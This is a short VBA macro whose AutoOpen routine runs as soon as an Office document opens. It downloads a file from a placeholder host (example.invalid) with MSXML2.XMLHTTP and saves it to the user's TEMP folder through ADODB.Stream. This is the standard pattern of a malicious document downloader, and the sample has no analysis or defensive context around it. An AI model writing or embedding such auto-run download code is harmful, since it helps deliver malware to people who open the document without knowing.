Sub AutoOpen()
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://example.invalid/a", False
h.Send
If h.Status = 200 Then
With CreateObject("ADODB.Stream")
.Open: .Type = 1: .Write h.ResponseBody
.SaveToFile Environ("TEMP") & "\a.txt", 2
End With
End If
End Sub
